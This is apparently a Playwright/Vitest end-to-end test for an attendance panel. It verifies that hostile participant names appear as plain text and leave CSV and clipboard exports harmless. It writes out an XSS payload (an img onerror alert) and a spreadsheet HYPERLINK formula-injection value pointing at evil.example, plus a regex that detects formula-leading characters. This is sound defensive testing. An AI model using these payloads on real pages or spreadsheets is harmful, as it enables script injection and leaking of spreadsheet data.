import { readFile } from 'node:fs/promises'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { restore, showControls } from '../../shared/files/index.ts'
import { openBrowser } from '../support/browser.ts'
import { readCsv } from '../support/csv.ts'
import { cutOff, openPanel, type OpenPanel } from '../support/panel.ts'
import { startServer, type TestServer } from '../support/server.ts'
import { createHostileNames, hostileNames, type Scenario } from '../zoom/index.ts'

const START = Date.UTC(2026, 10, 23, 14, 0)

let browser: Browser
let server: TestServer
let lecture: Scenario
let panel: OpenPanel

beforeAll(async () => {
  browser = await openBrowser()
  server = await startServer({ startMs: START })
  lecture = createHostileNames({ clock: server.clock, seed: 5, startsAtMs: START })
  server.world.add(lecture)
  const { zoomUserId = '' } = lecture.meeting.host
  await server.install(zoomUserId)
  server.world.authorised.add(zoomUserId)
  server.webhooks.follow(lecture)
  server.clock.advanceTo(START + 10 * 60_000)
  await server.told()
  panel = await openPanel(browser, server, {
    scenario: lecture,
    person: 'teacher',
    context: { permissions: ['clipboard-read', 'clipboard-write'] },
  })
  await panel.page.getByRole('grid').waitFor()
})
afterAll(async () => {
  await panel.close()
  await server.stop()
  await browser.close()
})

/** As a person names them; the panel and the sheet show one spelling for white space alone. */
const written = hostileNames.filter(({ name }) => name.trim() !== '').map(({ name }) => name)

async function exportIt(page: Page, format: 'Excel CSV' | 'CSV' | 'Copy'): Promise<void> {
  await page.getByRole('button', { name: 'Export', exact: true }).click()
  const sheet = page.getByRole('dialog')
  await sheet.getByRole('radio', { name: format, exact: true }).check()
  await sheet.getByRole('button', { name: /^(Export|Copy) \d+$/ }).click()
}

describe('participants whose names attack', () => {
  it('are shown as text: nothing runs, nothing breaks the width', async () => {
    const { page } = panel
    const dialogs: string[] = []
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    await page.getByRole('searchbox').fill('onerror')
    await page.getByText('</script><img src=x onerror=alert(1)>').waitFor()
    expect(await page.locator('img').count()).toBe(0)
    await page.getByRole('searchbox').fill('')
    for (const width of [280, 400, 900]) {
      await page.setViewportSize({ width, height: 700 })
      expect(await cutOff(page)).toEqual([])
    }
    await page.setViewportSize({ width: 400, height: 700 })
    expect(dialogs).toEqual([])
  })

  it('come out of the CSV harmless, in their columns, and restorable, with control characters to be seen', async () => {
    await exportIt(panel.page, 'CSV')
    await panel.page.getByText(/Opened in your browser/).waitFor()
    const link = panel.client.openedUrls.at(-1) ?? ''
    const system = await browser.newPage({ acceptDownloads: true })
    await system.goto(link)
    const [download] = await Promise.all([
      system.waitForEvent('download'),
      system.getByRole('button').click(),
    ])
    expect(download.suggestedFilename()).toMatch(/^attendance-2026-11-23-\d{4}\.csv$/)
    const text = await readFile(await download.path(), 'utf8')
    await system.close()

    const [header, ...lines] = readCsv(text)
    expect(header).toHaveLength(16)
    for (const line of lines) {
      expect(line).toHaveLength(16)
      for (const cell of line) expect(cell).not.toMatch(/^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u)
    }
    const names = lines.map(([name = '']) => restore(name))
    for (const name of written) expect(names).toContain(showControls(name))
    await panel.page.keyboard.press('Escape')
  })

  it('come out of the clipboard the same way', async () => {
    await exportIt(panel.page, 'Copy')
    await panel.page.getByText(/^Copied/).waitFor()
    const text = await panel.page.evaluate(() => navigator.clipboard.readText())
    const [sentence = '', empty, ...rest] = text.replaceAll('\r\n', '\n').split('\n')
    expect(sentence).toMatch(/^\d+ people (here|came)/)
    expect(empty).toBe('')
    const lines = readCsv(rest.join('\n').replace(/\n$/, ''), '\t')
    for (const line of lines) expect(line).toHaveLength(16)
    expect(text).not.toMatch(/(^|[\t\n])"?[=@＝]/)
    expect(lines.some(([name]) => name === '\'=HYPERLINK("http://evil.example/?"&A2;"name")')).toBe(true)
  })

  it('keep their original spelling for programs', async () => {
    server.clock.advanceBy(1_000)
    const session = await server.session(server.world.appContext(lecture.meeting.host, lecture))
    const answer = await server.call(
      session.token,
      'GET',
      `/api/gatherings/${session.meeting?.gatheringId ?? ''}/roster`,
    )
    const { people } = (await answer.json()) as { people: { names: string[] }[] }
    const spellings = people.flatMap(({ names }) => names)
    for (const name of written) expect(spellings).toContain(name)
  })
})
